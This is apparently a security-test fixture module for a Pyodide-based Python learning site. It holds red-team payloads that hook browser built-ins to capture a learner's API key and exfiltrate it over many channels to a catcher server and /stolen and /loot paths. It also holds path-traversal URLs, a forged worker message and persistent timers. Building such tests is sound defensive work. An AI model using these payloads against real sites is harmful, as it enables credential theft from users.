"""Python that came from a link and wants the learner's key: it gathers every string it can reach
(os.environ, the `js` globals, looplab.http, the worker's transport module, the page's answers),
puts spies on the built-ins the worker could use with the key (XHR's setRequestHeader, and every
way of reading a Headers object, its iterator first), then tries every way out of the
worker to a catcher server on another port. The lesson's own code follows it (`ATTACK % {...}`),
then `REPORT`.

It prints what it saw reversed (`SEEN:`), so that the worker's masking of the key cannot hide a
key Python found, and what became of each attempt (`TRIED:`); test_key.py reads both.
"""

# Every entry of a Headers object, noted, read with the real `entries` (taken before any hook).
# After `note` and `js` are defined.
HEADER_READER = r"""
real_entries = js.Headers.prototype.entries

def read_headers(this):
    try:
        entries = js.Reflect.apply(real_entries, this, js.Array.new())
        for step in iter(entries.next, None):
            if step.done:
                break
            note(str(step.value[0]) + ": " + str(step.value[1]))
    except Exception:
        pass
"""

# Spies on every way a Headers object is read or written, each reading all its entries (fetch reads
# a Headers it is given through Headers.prototype[Symbol.iterator]: issue 36, way 1). After `note`,
# `js`, `to_js` and `create_proxy` are defined.
HEADER_SPIES = (
    HEADER_READER
    + r"""
def spy_headers(key):
    real = js.Reflect.get(js.Headers.prototype, key)
    def watch(this, *args):
        read_headers(this)
        for arg in args:
            note(str(arg))
        return js.Reflect.apply(real, this, to_js(list(args)))
    js.Reflect.set(js.Headers.prototype, key, create_proxy(watch, capture_this=True))

for key in (js.Symbol.iterator, "entries", "forEach", "get", "has", "keys", "values", "set", "append", "getSetCookie"):
    spy_headers(key)
"""
)

ATTACK = (
    r"""
import asyncio, json, os
import js, pyodide.http
from pyodide.ffi import create_proxy, to_js
import looplab.http, looplab_page, looplab_transport

CATCHER = "%(catcher)s"
seen, tried = set(), {}

def note(value):
    if isinstance(value, str) and value:
        seen.add(value)

def plain(data):
    return to_js(data, dict_converter=js.Object.fromEntries)

def attempt(name, action):
    try:
        outcome = action()
        tried[name] = "ok: " + str(outcome)[:80]
    except BaseException as exc:
        tried[name] = "refused: " + type(exc).__name__ + " " + str(exc)[:120]

# spies on what the worker might call with the key
def spy(owner, name):
    real = getattr(owner, name)
    def watch(this, *args):
        for arg in args:
            note(str(arg))
        return real.apply(this, to_js(list(args)))
    setattr(owner, name, create_proxy(watch, capture_this=True))

spy(js.XMLHttpRequest.prototype, "setRequestHeader")

"""
    + HEADER_SPIES
    + r"""

# everything within reach
for value in os.environ.values():
    note(value)
for name in js.Object.getOwnPropertyNames(js.self):
    try:
        note(str(getattr(js, name)))
    except Exception:
        pass
for module in (looplab.http, looplab_transport, looplab_page):
    for name in dir(module):
        try:
            note(repr(getattr(module, name)))
        except Exception:
            pass
def ask(kind):
    answer = str(looplab_page.ask(kind, "{}"))
    note(answer)
    return answer

attempt("ask the page for the key", lambda: ask("key"))
attempt("ask the page for settings", lambda: ask("settings"))
# a message of its own, to re-point the worker's endpoint at the catcher
attempt("fake init message", lambda: js.self.dispatchEvent(js.MessageEvent.new("message", plain(
    {"data": plain({"type": "init", "baseUrl": CATCHER + "/v1", "key": ""})}))))
blob = json.dumps(sorted(seen))
short = js.encodeURIComponent(blob[:1500])

def xhr():
    request = js.XMLHttpRequest.new()
    request.open("POST", CATCHER + "/xhr", False)
    request.send(blob)
    return request.status

def pyfetch():
    asyncio.ensure_future(pyodide.http.pyfetch(CATCHER + "/pyfetch", method="POST", body=blob))
    return "sent"

def nested(url):
    worker = js.Worker.new(url)
    worker.postMessage(blob)
    return "started"

def blob_worker():
    code = js.Blob.new(to_js(["fetch('" + CATCHER + "/nested-blob')"]), plain({"type": "text/javascript"}))
    return nested(js.URL.createObjectURL(code))

attempt("fetch GET", lambda: js.fetch(CATCHER + "/fetch?k=" + short))
attempt("fetch POST", lambda: js.fetch(CATCHER + "/fetch", plain({"method": "POST", "body": blob})))
attempt("fetch no-cors", lambda: js.fetch(CATCHER + "/no-cors?k=" + short, plain({"mode": "no-cors"})))
attempt("XMLHttpRequest", xhr)
attempt("open_url", lambda: pyodide.http.open_url(CATCHER + "/open-url?k=" + short).read())
attempt("pyfetch", pyfetch)
attempt("looplab.http to the catcher", lambda: looplab.http.post_json(CATCHER + "/v1/chat/completions", {"k": blob}))
attempt("looplab_transport to the catcher", lambda: looplab_transport.send("POST", CATCHER + "/v1/x", "{}", blob, 2000).error)
attempt("WebSocket", lambda: js.WebSocket.new(CATCHER.replace("http", "ws") + "/ws?k=" + short))
attempt("EventSource", lambda: js.EventSource.new(CATCHER + "/events?k=" + short))
attempt("importScripts", lambda: js.importScripts(CATCHER + "/script.js?k=" + short))
attempt("import()", lambda: js.Function("u", "return import(u)")(CATCHER + "/module.js?k=" + short))
attempt("run_js import()", lambda: __import__("pyodide.code").code.run_js("import('" + CATCHER + "/module2.js')"))
attempt("sendBeacon", lambda: js.navigator.sendBeacon(CATCHER + "/beacon", blob))
attempt("nested worker", lambda: nested(CATCHER + "/worker.js"))
attempt("nested site worker", lambda: nested(js.location.pathname.split("/")[-1] + "?connect=" + js.encodeURIComponent(CATCHER)))  # this very script
attempt("nested blob worker", blob_worker)
attempt("Cache API", lambda: js.caches.keys())
attempt("private files", lambda: js.navigator.storage.getDirectory())  # where the kept snapshot lives
# a request for the endpoint's origin but outside its path: the worker adds no key
origin = "/".join(os.environ.get("LLM_BASE_URL", "http://x/v1").split("/")[:3])
attempt("outside the prefix", lambda: looplab.http.get_json(origin + "/outside", {"Authorization": "Bearer " + os.environ.get("LLM_API_KEY", "")})[0])
"""
)

# after the lesson's own code (its live model ran under the spies)
REPORT = r"""
print("SEEN:" + json.dumps(sorted(seen))[::-1])
print("TRIED:" + json.dumps(tried))
"""


# --- the red team's five ways, and hooks on every built-in the keyed path uses (test_attacks.py) ---
#
# Each is Python a share link carries, put before the lesson's own exercise code (so the lesson
# still runs and its checks can pass), %-formatted with `base` (the endpoint's base URL, which
# the attacker is assumed to know) and `site` (the site's address, ending in "/"). Whatever looks
# like a secret is leaked at once, three ways: printed reversed (past the output's mask of the
# key), in a request path to the endpoint's origin and to the site, and in a request body.

THIEF = r"""
import json, os
import js
from urllib.parse import quote
from pyodide.ffi import create_proxy, to_js

BASE = "%(base)s"
SITE = "%(site)s"
ORIGIN = BASE.rsplit("/v1", 1)[0]
seen, leaked = set(), set()

def shout(method, url, body=None):
    try:
        request = js.XMLHttpRequest.new()
        request.open(method, url, False)
        request.send(body)
    except Exception:
        pass

def leak(text):
    if text in leaked:
        return
    leaked.add(text)
    print("LOOT " + text[::-1])
    shout("GET", ORIGIN + "/stolen/" + quote(text[::-1], safe=""))
    shout("GET", SITE + "stolen/" + quote(text, safe=""))
    shout("POST", BASE + "/loot", text)

def note(value):
    if isinstance(value, str) and value:
        seen.add(value)
        if "Bearer" in value or "uthorization" in value:
            leak(value)

def patch_http(wrap):
    import looplab.http
    looplab.http.request = wrap(looplab.http.request)
    looplab.http.open_stream = wrap(looplab.http.open_stream)
"""

# 1. The headers object, read through its iterator (and every other Headers method), while the
# lesson's live model streams (open_stream) and while Python calls send_async and open_stream itself.
HEADERS = (
    THIEF
    + r"""
import looplab_transport
from pyodide.ffi import can_run_sync, run_sync

"""
    + HEADER_SPIES
    + r"""

if os.environ.get("LOOPLAB_MODEL") == "live" and can_run_sync():
    for call in (looplab_transport.send_async, looplab_transport.open_stream):
        reply = run_sync(call("GET", BASE + "/models", "{}", None, 5000))
        if getattr(reply, "stream", None):
            looplab_transport.close_stream(reply.stream)
print("headers hooked")
"""
)

# 2. What link code leaves behind: hooks on the headers, a patched looplab module and a global of
# its own, which a later run would show.
LEFTOVERS = (
    HEADERS
    + r"""
import looplab.http
js.self.looplabLinkWasHere = "the link's global"
def patched(real):
    def call(method, url, *args, **kwargs):
        print("PATCHED BY THE LINK " + url + " " + str(getattr(js.self, "looplabLinkWasHere", "")))
        return real(method, url, *args, **kwargs)
    return call
patch_http(patched)
"""
)

# 3. Lesson 02's code from a link, which lesson 90 (the learner's own, live) reuses with mine(2):
# it hooks the headers and calls the endpoint itself (/from-link).
MINED = (
    HEADERS
    + r"""
import looplab.http
try:
    looplab.http.get_json(BASE + "/from-link")
except Exception as exc:
    print("from-link:", exc)
"""
)

# 4. A timer the link leaves: every 200 ms a plain request to the endpoint (/timer), no hook needed.
TIMER = (
    THIEF
    + r"""
import looplab_transport
def tick(*_):
    try:
        looplab_transport.send("GET", BASE + "/timer", "{}", None, 2000)
    except Exception:
        pass
js.setInterval(create_proxy(tick), 200)
print("timer set")
"""
)

# 5. Paths that leave the prefix on a server that decodes and normalises them, and a redirect out of
# it (the test scripts /v1/redirect to answer 307 to /outside-redirect), by every transport
# function; then looplab.http patched so that the lesson's own later calls go out of the prefix.
OUTSIDE_PATHS = [
    "/..%2Foutside-a",
    "/..%2foutside-b",
    "/%2e%2e%2foutside-c",
    "/..;/outside-d",
    "/..%5Coutside-e",
    "/%2E%2E/outside-f",
    "/..%252Foutside-g",
    "/x;p=1/../../outside-h",
    "/redirect",
]
PREFIX = (
    THIEF
    + r"""
import looplab.http, looplab_transport
from pyodide.ffi import can_run_sync, run_sync
out = {}
for path in %(paths)s:
    url = BASE + path
    def by_http():
        return looplab.http.get_json(url, timeout=5)[0]
    def by_send():
        reply = looplab_transport.send("GET", url, "{}", None, 5000)
        return getattr(reply, "status", None) or reply.error
    def by_async():
        reply = run_sync(looplab_transport.send_async("GET", url, "{}", None, 5000))
        return getattr(reply, "status", None) or reply.error
    def by_stream():
        reply = run_sync(looplab_transport.open_stream("GET", url, "{}", None, 5000))
        if getattr(reply, "stream", None):
            looplab_transport.close_stream(reply.stream)
        return getattr(reply, "status", None) or reply.error
    for name, way in (("http", by_http), ("send", by_send), ("async", by_async), ("stream", by_stream)):
        if name in ("async", "stream") and not can_run_sync():
            continue
        try:
            out[path + " " + name] = str(way())
        except Exception as exc:
            out[path + " " + name] = type(exc).__name__
print("PREFIX " + json.dumps(out))
def rerouted(real):
    def call(method, url, *args, **kwargs):
        return real(method, url.replace("/v1/chat/completions", "/v1/..%%2Foutside-i/chat/completions"), *args, **kwargs)
    return call
patch_http(rerouted)
"""
)

# Built-ins the keyed path uses whose methods Python can replace with a function of its own and the
# lesson still runs live. The others Pyodide calls on its way into Python (Array.prototype.push and
# reverse, Array.from, Object.keys, Object.prototype.toString, String.prototype.charCodeAt …):
# replaced by Python they recurse before any Python runs, and the worker dies; and past about this
# many hooks on the hot path (more of Array.prototype, Object's statics), a live call's stack runs
# out and the worker dies too. So Python cannot hook those; test_javascript_hooks… hooks them all, in
# JavaScript. (In this order: String's and Array's hooked first would meet the hooking of the rest.)
PY_TARGETS = [
    (
        "js.Headers.prototype",
        ["@@iterator", "append", "delete", "get", "getSetCookie", "has", "set", "forEach", "entries", "keys", "values"],
    ),
    ("js.Request.prototype", ["clone", "arrayBuffer", "text", "json"]),
    ("js.URL.prototype", ["toString", "toJSON"]),
    ("js.URL", ["canParse", "parse"]),
    ("js.JSON", ["parse", "stringify"]),
    ("js.TextEncoder.prototype", ["encode", "encodeInto"]),
    ("js.Promise", ["all", "allSettled", "any", "race", "reject", "withResolvers"]),
    ("js.Promise.prototype", ["catch", "finally"]),
    ("js.Object.prototype", ["toLocaleString", "valueOf", "isPrototypeOf", "propertyIsEnumerable"]),
    (
        "js.Object.getPrototypeOf(js.Uint8Array.prototype)",
        ["join", "indexOf", "includes", "fill", "reverse", "map", "filter", "toString", "at", "every", "some"],
    ),
    ("js.String", ["raw"]),
    (
        "js.String.prototype",
        [
            "indexOf",
            "lastIndexOf",
            "slice",
            "substring",
            "substr",
            "toLowerCase",
            "toUpperCase",
            "startsWith",
            "endsWith",
            "includes",
            "concat",
            "split",
            "trim",
            "padStart",
            "at",
            "replaceAll",
            "normalize",
            "localeCompare",
            "search",
            "match",
            "repeat",
        ],
    ),
    ("js.Array.prototype", ["join", "map", "filter", "forEach", "indexOf", "includes"]),
]

# Hooks from Python on every method of the keyed path's built-ins that Python can replace: Headers,
# Request, URL, String, Array, Object, Promise, JSON, TextEncoder, Uint8Array (and fetch, XHR).
# A method Pyodide itself calls on its way into Python cannot be replaced by a Python function (the
# replacement recurses before any Python runs: the worker dies), so those are left to HOOKS_JS.
PY_HOOKS = (
    THIEF
    + r"""
# what a live call imports, imported first: with String's methods hooked every file Python looks for
# costs hundreds of calls into Python, and the attacker wants the live call itself watched
import hashlib, platform, uuid
import looplab.http, looplab.sse, looplab_transport
import looplab.models.chat, looplab.models.endpoint, looplab.models.limits, looplab.models.live
import looplab.models.prompted, looplab.models.responses, looplab.models.stream
busy = [False]
kind_of = js.Object.prototype.toString
"""
    + HEADER_READER
    + r"""
def look(value):
    if isinstance(value, str):
        note(value)
    elif value is not None and not isinstance(value, (int, float, bool)):
        try:
            if kind_of.call(value) == "[object Headers]":
                read_headers(value)
        except Exception:
            pass

def hook(owner, key, where):
    key = js.Symbol.iterator if key == "@@iterator" else key
    try:
        real = js.Reflect.get(owner, key)
    except Exception:
        return
    def watch(this, *args):
        if not busy[0]:
            busy[0] = True
            try:
                look(this)
                for arg in args:
                    look(arg)
            finally:
                busy[0] = False
        return js.Reflect.apply(real, this, to_js(list(args)))
    try:
        if js.Reflect.set(owner, key, create_proxy(watch, capture_this=True)):
            hooked.append(where)
        else:
            missed.append(where)
    except Exception as exc:
        missed.append(where + " " + type(exc).__name__)

hooked, missed = [], []
for owner, keys in %(targets)s:
    for key in keys:
        hook(eval(owner), key, owner + "." + key)
print("hooked %%d built-ins from Python" %% len(hooked))
print("not hooked: " + (", ".join(missed) or "none"))
"""
)

# Hooks in JavaScript, made from Python's text where the worker has no policy against text as code
# (a host that sends none, with no service worker): every function and accessor of the built-ins
# the keyed path uses and of fetch and XHR, getters on Object.prototype for the names a request's
# options have, setters on Array.prototype's first indexes. Each sees `this`, its arguments and
# what it returns (strings, and the string properties of objects, one level down); what they saw
# is in `self.looplabSeen`, which Python reads (and leaks) after the run's code.
HOOKS_JS = r"""
const seen = (self.looplabSeen = new Set());
const R = Reflect;
const { apply, construct, ownKeys } = R;
const describe = Object.getOwnPropertyDescriptor;
const define = Object.defineProperty;
const entriesOf = Headers.prototype.entries;
const HeadersClass = Headers;
const { isView } = ArrayBuffer;
const { isArray } = Array;
const Buffer = ArrayBuffer;
const BASE = "__BASE__";
const SITE = "__SITE__";
const XHR = XMLHttpRequest;
const { open: OPEN, send: SEND } = XHR.prototype;
const leaked = new Set();
function leak(text) {
  if (leaked.has(text)) return;
  leaked.add(text);
  const reversed = Array.from(text).reverse().join("");
  const ways = [["GET", BASE.split("/v1")[0] + "/stolen/" + encodeURIComponent(reversed), null],
    ["GET", SITE + "stolen/" + encodeURIComponent(text), null], ["POST", BASE + "/loot", text]];
  for (const [method, url, body] of ways) {
    try {
      const request = new XHR();
      apply(OPEN, request, [method, url, false]);
      apply(SEND, request, [body]);
    } catch {}
  }
}
let busy = false;
function look(value, depth) {
  if (typeof value === "string") {
    if (value.length >= 4 && value.length < 4000 && seen.size < 100000) seen.add(value);
    if (value.includes("Bearer") || value.includes("uthorization")) leak(value);
    return;
  }
  if (depth > 1 || value === null || (typeof value !== "object" && typeof value !== "function")) return;
  try {
    if (isView(value) || value instanceof Buffer) return; // (Python's heap among them: 30 MB of indexes)
    if (value instanceof HeadersClass) {
      const it = apply(entriesOf, value, []);
      for (let step = it.next(); !step.done; step = it.next()) look(step.value[0] + ": " + step.value[1], 2);
    }
    if (isArray(value)) {
      for (let i = 0; i < value.length && i < 50; i++) look(value[i], depth + 1);
      return;
    }
    const keys = ownKeys(value);
    for (let i = 0; i < keys.length && i < 50; i++) {
      if (typeof keys[i] !== "string") continue;
      const d = describe(value, keys[i]);
      if (d && "value" in d) look(d.value, depth + 1);
    }
  } catch {}
}
function seeing(self_, args, out) {
  if (busy) return;
  busy = true;
  try {
    look(self_, 0);
    for (let i = 0; i < args.length; i++) look(args[i], 0);
    look(out, 0);
  } finally {
    busy = false;
  }
}
let count = 0;
function wrap(owner, key) {
  const d = describe(owner, key);
  if (!d || !d.configurable) return;
  if (typeof d.value === "function" && key !== "constructor") {
    const real = d.value;
    const hook = function (...args) {
      const out = new.target ? construct(real, args, new.target) : apply(real, this, args);
      seeing(this, args, out);
      return out;
    };
    try { define(hook, "prototype", { value: real.prototype }); } catch {}
    define(owner, key, { value: hook, writable: d.writable, enumerable: d.enumerable, configurable: true });
    count++;
  } else if (d.get || d.set) {
    const { get, set } = d;
    define(owner, key, {
      get: get && function () { const out = apply(get, this, []); seeing(this, [], out); return out; },
      set: set && function (v) { seeing(this, [v], undefined); return apply(set, this, [v]); },
      enumerable: d.enumerable,
      configurable: true,
    });
    count++;
  }
}
const TypedArray = Object.getPrototypeOf(Uint8Array);
const owners = [Headers, Request, Response, URL, String, Array, Object, Promise, JSON, TextEncoder, TextDecoder,
  Uint8Array, TypedArray, ArrayBuffer, XMLHttpRequest, AbortController, AbortSignal, ReadableStream, Function];
for (const owner of owners) {
  for (const key of ownKeys(owner)) wrap(owner, key);
  if (owner.prototype) for (const key of ownKeys(owner.prototype)) wrap(owner.prototype, key);
}
for (const key of ["fetch", "Headers", "Request", "XMLHttpRequest"]) {
  const real = self[key];
  self[key] = new Proxy(real, {
    apply(target, self_, args) { const out = apply(target, self_, args); seeing(self_, args, out); return out; },
    construct(target, args, newTarget) { const out = construct(target, args, newTarget); seeing(null, args, out); return out; },
  });
  count++;
}
for (const name of ["headers", "Authorization", "authorization", "body", "method", "redirect", "signal", "credentials",
  "key", "apiKey", "then"]) {
  define(Object.prototype, name, {
    get() { seeing(this, [], undefined); return undefined; },
    set(v) { seeing(this, [v], undefined); define(this, name, { value: v, writable: true, enumerable: true, configurable: true }); },
    configurable: true,
  });
  count++;
}
for (let i = 0; i < 4; i++) {
  define(Array.prototype, String(i), {
    get() { return undefined; },
    set(v) { seeing(this, [v], undefined); define(this, String(i), { value: v, writable: true, enumerable: true, configurable: true }); },
    configurable: true,
  });
  count++;
}
return count;
"""

JS_HOOKS = (
    THIEF
    + r"""
try:
    count = js.Function(%(source)r)()
    print("hooked %%d built-ins in JavaScript" %% count)
except Exception as exc:
    print("NO TEXT AS CODE HERE: " + type(exc).__name__)
"""
)

# What the JavaScript hooks saw, read by Python and leaked: its own code, run after the lesson's.
JS_HOOKS_REPORT = r"""
looted = getattr(js.self, "looplabSeen", None)
if looted is not None:
    looted = [str(text) for text in getattr(js.Array, "from")(looted)]  # (leaking adds to the set: read it once)
    for text in looted:
        note(text)
    print("JS HOOKS SAW %d strings" % len(looted))
"""

# The page's trust in its workers' `kept` message: a forged one, with a Module and a "snapshot"
# of the link's own, posted from Python as the worker would post it.
FORGED_KEPT = (
    THIEF
    + r"""
module = js.WebAssembly.Module.new(to_js(bytes(b"\0asm\x01\0\0\0")))
snapshot = js.Uint8Array.new(4096)
js.self.postMessage(js.Object.fromEntries(to_js([["type", "kept"], ["module", module], ["snapshot", snapshot]])))
print("forged kept posted")
"""
)

# Last, after the lesson's code: everything the link's Python could read, reversed.
SEEN = r"""
print("SEEN:" + json.dumps(sorted(seen))[::-1])
"""
